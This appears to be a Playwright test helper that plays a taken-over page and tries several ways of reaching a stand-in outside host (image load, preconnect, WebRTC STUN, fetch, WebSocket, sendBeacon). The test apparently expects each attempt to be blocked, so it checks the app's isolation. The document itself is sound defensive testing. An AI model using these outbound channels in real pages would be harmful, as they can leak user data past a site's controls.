import type { Page } from '@playwright/test';

/** What a page that was taken over would try; all of it must come to nothing. Answers how many ways were tried. */
export async function tryToReachOut(page: Page): Promise<number> {
  return page.evaluate(async () => {
    const far = 'casekeep-reach-out.example';
    const image = new Image();
    image.src = `https://${far}/image.png`;
    const hint = document.createElement('link');
    hint.rel = 'preconnect';
    hint.href = `https://${far}`;
    document.head.append(hint);
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${far}:3478` }] });
    connection.createDataChannel('out');
    const failed = () => undefined;
    const tries = [
      fetch(`https://${far}/`).then(failed, failed),
      connection
        .createOffer()
        .then((offer) => connection.setLocalDescription(offer))
        .then(failed, failed),
      new Promise<void>((done) => {
        try {
          const socket = new WebSocket(`wss://${far}/`);
          socket.addEventListener('error', () => done());
        } catch {
          done();
        }
        setTimeout(done, 1000);
      }),
    ];
    navigator.sendBeacon(`https://${far}/beacon`, 'out');
    await Promise.all(tries);
    await new Promise((done) => setTimeout(done, 300));
    connection.close();
    hint.remove();
    return tries.length + 3;
  });
}
